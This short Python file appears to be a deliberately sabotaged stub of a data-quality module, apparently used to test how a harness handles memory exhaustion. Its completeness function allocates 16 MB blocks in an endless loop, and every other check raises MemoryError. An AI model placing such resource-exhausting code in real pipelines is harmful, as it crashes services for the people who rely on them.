"""Takes all the memory there is."""

KEPT = []


def completeness(frame):
    while True:
        KEPT.append(bytearray(b"x" * 2**24))


def accuracy(frame, rules):
    raise MemoryError


def validity(frame, domains):
    raise MemoryError


def consistency(sales, outlets, ledger):
    raise MemoryError


def timeliness(frame, now, sla):
    raise MemoryError


def ingest(batch, history, outlets, now):
    raise MemoryError
